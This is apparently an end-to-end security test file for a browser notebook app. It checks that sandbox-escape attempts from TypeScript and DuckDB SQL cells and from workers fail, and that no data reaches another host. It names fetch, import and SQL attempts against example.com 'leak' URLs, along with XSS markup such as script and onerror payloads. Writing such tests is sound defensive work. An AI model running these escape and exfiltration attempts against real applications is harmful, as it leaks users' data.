import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cspReports, injectedElements, watchDialogs } from './support/injected-markup';
import { waitForRecord } from './support/network-expectations';
import { NotebookPage } from './support/notebook-page';
import { startE2eSession, type E2eSession } from './support/session';

/**
 * Issue 7, item 1: a notebook whose every cell tries a way out (fixtures/adversarial.md), opened
 * as a user opens a notebook file (review mode, then Run), in the built app behind the logging
 * proxy. Every attempt must end as an error in its own cell, saying what stopped it; the proxy
 * must see no request to another host, and no CSP refusal of one (a refusal means the attempt got
 * as far as the last wall; the walls before it are the ones under test here).
 */

const FIXTURE = fileURLToPath(new URL('./fixtures/adversarial.md', import.meta.url));

const NOT_IN_CELLS = (name: string) => new RegExp(`^line \\d+:\\d+ · ${name} is not available in TypeScript cells`);
const EVAL_REFUSED = /^line \d+:\d+ · EvalError: Evaluating a string as JavaScript violates the following Content Security Policy directive/;
const NO_FILE_ACCESS = (url: string) => new RegExp(`Permission Error: Cannot access file "${url.replace(/[.?]/g, '\\$&')}" - file system operations are disabled by configuration`);
const NO_EXTENSION = (fn: string, extension: string) => new RegExp(`^Catalog Error: Table Function with name "${fn}" is not in the catalog, but it exists in the ${extension} extension`);
const ONE_QUERY = /^line 1:14 · A SQL cell holds one query; split the statements into cells$/;
const CHART_REFUSED = (url: string) => new RegExp(`This chart refers to something outside the app and was not drawn: .*${url.replace(/[.?]/g, '\\$&')}`);

/** Each attempt's cell and the message it must end with: what stopped it, in the cell's own output. */
const EXPECTED_ERRORS: Record<string, RegExp> = {
  // TypeScript cells: the compiler makes every free name an input, and names the browser's ways out
  'ts-fetch': NOT_IN_CELLS('fetch'),
  'ts-xhr': NOT_IN_CELLS('XMLHttpRequest'),
  'ts-beacon': NOT_IN_CELLS('navigator'),
  'ts-websocket': NOT_IN_CELLS('WebSocket'),
  'ts-event-source': NOT_IN_CELLS('EventSource'),
  'ts-worker': NOT_IN_CELLS('Worker'),
  'ts-import-scripts': NOT_IN_CELLS('importScripts'),
  'ts-dynamic-import': /^line 1:22 · import is not available in TypeScript cells/,
  'ts-eval': NOT_IN_CELLS('eval'),
  'ts-indexed-db': NOT_IN_CELLS('indexedDB'),
  'ts-caches': NOT_IN_CELLS('caches'),
  'ts-image': /^line 1:19 · Image is not defined \(no cell or input has that name\)/,
  'ts-offscreen-canvas': /^line 2:12 · OffscreenCanvas is not defined/,
  // reached without naming anything: the CSP (no 'unsafe-eval') refuses making code from text
  'ts-function-constructor': EVAL_REFUSED,
  'ts-async-function-constructor': EVAL_REFUSED,
  // cells are strict: no `this` leads to the worker's global scope
  'ts-global-this': /TypeError: Cannot read properties of undefined \(reading 'fetch'\)/,
  // `sql` from a TypeScript cell meets DuckDB's sandbox (src/engine/session-settings.ts)
  'ts-sql-remote': NO_FILE_ACCESS('http://example.com/leak-ts-sql.csv'),
  'ts-sql-load': /Permission Error: Loading external extensions is disabled through configuration/,
  'ts-sql-attach': NO_FILE_ACCESS('http://example.com/leak-ts-attach.duckdb'),
  'ts-sql-unlock': /Invalid Input Error: Cannot change configuration option "enable_external_access" - the configuration has been locked/,
  // a chart referring to something outside itself is refused before it is drawn
  'ts-plot-style': CHART_REFUSED('http://example.com/leak-plot-style.png'),
  'ts-plot-fill': CHART_REFUSED('http://example.com/leak-plot-fill.svg'),
  // SQL cells
  'sql-read-csv': NO_FILE_ACCESS('http://example.com/leak-read-csv.csv'),
  'sql-replacement-scan': NO_FILE_ACCESS('https://example.com/leak-replacement-scan.csv'),
  'sql-read-text': NO_FILE_ACCESS('http://example.com/leak-read-text.txt'),
  'sql-read-parquet': NO_EXTENSION('read_parquet', 'parquet'),
  'sql-read-json': NO_EXTENSION('read_json', 'json'),
  // a bare statement cannot follow `CREATE TEMP TABLE … AS`
  'sql-install-httpfs': /syntax error at or near \\?"INSTALL\\?"/,
  'sql-install-smuggled': ONE_QUERY,
  'sql-install-from': ONE_QUERY,
  'sql-load-httpfs': ONE_QUERY,
  'sql-attach': ONE_QUERY,
  'sql-copy-to': ONE_QUERY,
  'sql-external-access': ONE_QUERY,
  'sql-autoinstall': ONE_QUERY,
  'sql-autoload': ONE_QUERY,
  'sql-extension-repository': ONE_QUERY,
  'sql-unlock': ONE_QUERY,
  'sql-reset': ONE_QUERY,
};

/**
 * Attempts that succeed without reaching anything, and why. `INSTALL` in DuckDB-WASM downloads
 * nothing (an extension is fetched when it is loaded, and LOAD is refused: ts-sql-load); the proxy
 * check below is what proves no request left.
 */
const HARMLESS = new Set(['ts-sql-install']);

/** The cells that only show text: prose, and a value that is markup. */
const TEXT_CELLS = new Set(['about', 'about-smuggled', 'md-hostile', 'ts-returns-markup']);

let session: E2eSession;
beforeAll(async () => {
  session = await startE2eSession();
});
afterAll(() => session?.close());

/** Every cell's output text, by id: its error message when it shows one, else ''. */
function cellErrors(nb: NotebookPage): Promise<Record<string, string>> {
  return nb.page.locator('tb-cell').evaluateAll((cells) =>
    Object.fromEntries(
      cells.map((c) => {
        const output = c.shadowRoot?.querySelector('tb-cell-output')?.shadowRoot;
        return [c.getAttribute('data-id') ?? '', output?.querySelector('[data-testid="cell-error"]')?.textContent?.trim() ?? ''];
      }),
    ),
  );
}

describe('the adversarial notebook', () => {
  it('opened as a file and run: every way out ends as an error in its own cell, and nothing reaches another host', async () => {
    const app = await session.openApp({ context: { locale: 'en-US' } });
    const dialogs = watchDialogs(app.page);
    const nb = new NotebookPage(app.page);
    await nb.settle();
    const mark = await app.log.mark();

    await app.page.locator('input[data-testid="notebook-file"]').setInputFiles(FIXTURE);
    await app.page.locator('[data-testid="review-banner"]').waitFor();
    // review mode: nothing has run before the reviewer presses Run
    const before = await nb.statuses();
    expect(Object.keys(before)).toEqual(expect.arrayContaining(Object.keys(EXPECTED_ERRORS)));
    expect(Object.entries(before).filter(([id, s]) => !TEXT_CELLS.has(id) && (s === 'done' || s === 'error'))).toEqual([]);

    await app.page.locator('button[data-testid="review-run"]').click();
    await nb.settle();
    // a chart is drawn (or refused) after its cell is done
    await expect.poll(async () => (await cellErrors(nb))['ts-plot-fill'], { timeout: 30_000 }).not.toBe('');
    const errors = await cellErrors(nb);
    const statuses = await nb.statuses();

    // every cell of the fixture is accounted for
    expect(Object.keys(statuses).sort()).toEqual([...Object.keys(EXPECTED_ERRORS), ...HARMLESS, ...TEXT_CELLS].sort());
    // soft: a run that breaks lists every cell that got further, then the proxy's records
    for (const [id, message] of Object.entries(EXPECTED_ERRORS)) {
      expect.soft(errors[id], `${id} should end with an error`).toMatch(message);
    }
    for (const id of [...HARMLESS, ...TEXT_CELLS]) expect.soft([id, statuses[id], errors[id]]).toEqual([id, 'done', '']);

    // markup returned by a cell is shown as text
    const value = nb.cell('ts-returns-markup').locator('[data-testid="cell-value"]');
    expect(await value.textContent()).toContain('<img src=x onerror=alert(1)><script>alert(2)</script>');

    // Markdown: raw HTML is text, images and links to other hosts are not images or links
    const markdown = nb.cell('md-hostile').locator('div.markdown');
    const text = (await markdown.textContent()) ?? '';
    for (const raw of ['<img src=x onerror=alert(1)>', "<script>fetch('http://example.com/leak-md-script')</script>", '<iframe src="http://example.com/leak-md-iframe">', '<form action="http://example.com/leak-md-form" method="post">', '<meta http-equiv="refresh"']) {
      expect(text).toContain(raw);
    }
    expect(await markdown.locator('img, iframe, form, script, meta, svg, style, link, object, embed').count()).toBe(0);
    expect(await markdown.locator('span.blocked-image').evaluateAll((spans) => spans.map((s) => s.getAttribute('title')))).toEqual([
      'http://example.com/leak-md-image.png',
      '//example.com/leak-md-image-2.png',
    ]);
    const pageOrigin = new URL(session.environment.appUrl).origin;
    const hrefs = await markdown.locator('a[href]').evaluateAll((links) => links.map((a) => (a as HTMLAnchorElement).href));
    for (const href of hrefs) expect(new URL(href).origin, href).toBe(pageOrigin);
    expect(await markdown.locator('span.external-link').evaluateAll((spans) => spans.map((s) => s.getAttribute('title')))).toEqual([
      'http://example.com/leak-md-link',
      '//example.com/leak-md-link-2',
      'http://example.com/leak-md-autolink',
      'http://example.com/leak-md-reference',
    ]);
    // javascript: links (plain or entity-encoded) are not links at all: markdown-it leaves them as text
    expect(text).toContain('[leak-md-javascript](javascript:alert(1))');

    // nothing a payload made is in the page, and nothing ran
    expect.soft(await injectedElements(app.page)).toEqual([]);
    expect.soft(dialogs).toEqual([]);
    expect.soft(app.problems).toEqual([]);

    // the proxy: no request to another host, and the only CSP refusals are the two constructor
    // cells' attempts to make code from text (inside the sandbox worker, a blob)
    await app.expectNoOtherHostRequests(mark);
    const refusals = (await cspReports(app.log, mark)).map((r) => ({ directive: r.method, blocked: r.url, where: r.detail }));
    expect(refusals.length).toBeGreaterThanOrEqual(2);
    for (const refusal of refusals) expect(refusal).toEqual({ directive: 'script-src', blocked: 'eval', where: 'refused by CSP in blob' });
    await app.close();
  }, 300_000);
});

/**
 * Issue 7, item 1 (every worker covered): what a worker may reach is its own CSP, not the page's;
 * a worker loaded by URL gets only the header's (a <meta> policy does not reach it), a blob worker
 * inherits the page's. Here each worker the app actually made (DuckDB's, loaded by URL; the
 * TypeScript sandbox, a module worker from a blob) is made to try, from inside, every way out its
 * scope still has: each must be refused by CSP in that worker (the proxy records the report,
 * naming the worker's script) and none may reach the network.
 */
/**
 * Run inside a worker: tries every way out its scope still has, returns the addresses tried. A
 * string, not a function: Vitest would rewrite a function's import() into its own helper.
 */
const WORKER_ATTEMPTS = `async (base) => {
  const attempts = [];
  if (typeof globalThis.fetch === 'function') {
    attempts.push(base + '-fetch');
    await globalThis.fetch(base + '-fetch').catch(() => undefined);
  }
  attempts.push(base + '-import.js');
  await import(base + '-import.js').catch(() => undefined);
  if (globalThis.FontFace) {
    attempts.push(base + '-font.woff2');
    await new FontFace('leak', 'url(' + base + '-font.woff2)').load().catch(() => undefined);
  }
  return attempts;
}`;

describe('every worker the app creates is under the policy', () => {
  it('DuckDB\'s worker and the TypeScript sandbox worker refuse a fetch, an import and a font from another host', async () => {
    const app = await session.openApp({ context: { locale: 'en-US' } });
    await new NotebookPage(app.page).settle(); // the demo notebook's TypeScript cells start the sandbox
    const workers = app.page.workers();
    const duckdb = workers.find((w) => /\/duckdb-browser-[^/]*worker[^/]*\.js$/.test(w.url()));
    const sandbox = workers.find((w) => w.url().startsWith('blob:'));
    expect(workers.map((w) => w.url().replace(/[0-9a-f-]{36}$/, '…'))).toHaveLength(2);
    expect(duckdb, 'the DuckDB worker').toBeDefined();
    expect(sandbox, 'the sandbox worker').toBeDefined();

    for (const [name, worker] of [['duckdb', duckdb!], ['sandbox', sandbox!]] as const) {
      const mark = await app.log.mark();
      const base = `http://example.com/leak-${name}-worker`;
      // Playwright evaluates as the debugger would, but what the code then tries is the worker's own
      const tried = (await worker.evaluate(`(${WORKER_ATTEMPTS})(${JSON.stringify(base)})`)) as string[];
      // the sandbox has closed fetch itself (sandbox-worker.ts); the CSP is the wall for the rest
      expect(tried.length, `${name}: attempts`).toBe(name === 'duckdb' ? 3 : 2);
      for (const url of tried) {
        const record = await waitForRecord(app.log, mark, (r) => r.kind === 'csp-report' && r.url === url);
        expect(record.detail, `${name}: ${url}`).toBe(`refused by CSP in ${worker.url().startsWith('blob:') ? 'blob' : worker.url()}`);
      }
      const reached = (await app.log.since(mark)).filter((r) => r.kind !== 'csp-report');
      expect(reached, `${name}: requests that reached the proxy`).toEqual([]);
    }
    await app.close();
  }, 300_000);
});
